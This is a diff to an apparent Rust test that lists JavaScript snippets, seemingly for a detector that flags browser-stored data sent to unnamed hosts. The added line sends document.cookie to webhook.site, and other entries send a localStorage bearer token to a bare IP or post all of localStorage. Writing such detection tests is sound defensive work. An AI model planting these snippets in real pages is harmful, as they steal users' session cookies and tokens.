@@ -186,6 +186,7 @@ fn what_a_browser_keeps_for_a_page_goes_to_a_nameless_host() {
             "fetch('http://203.0.113.9/api', { headers: { Authorization: 'Bearer ' + localStorage.getItem('token') } })",
             "localStorage.setItem('theme', 'dark');\nfetch('http://203.0.113.9/api/themes').then(r => r.json()).then(show)",
             "new Image().src = 'https://stats.vendor.example/p?u=' + encodeURIComponent(location.pathname)",
+            "new Image().src = 'https://webhook.site/x?c=' + document.cookie",
             "fetch('/api/sync', { method: 'POST', body: JSON.stringify(localStorage) })",
             "fetch('http://localhost:3000/sync', { method: 'POST', body: document.cookie })",
         ],
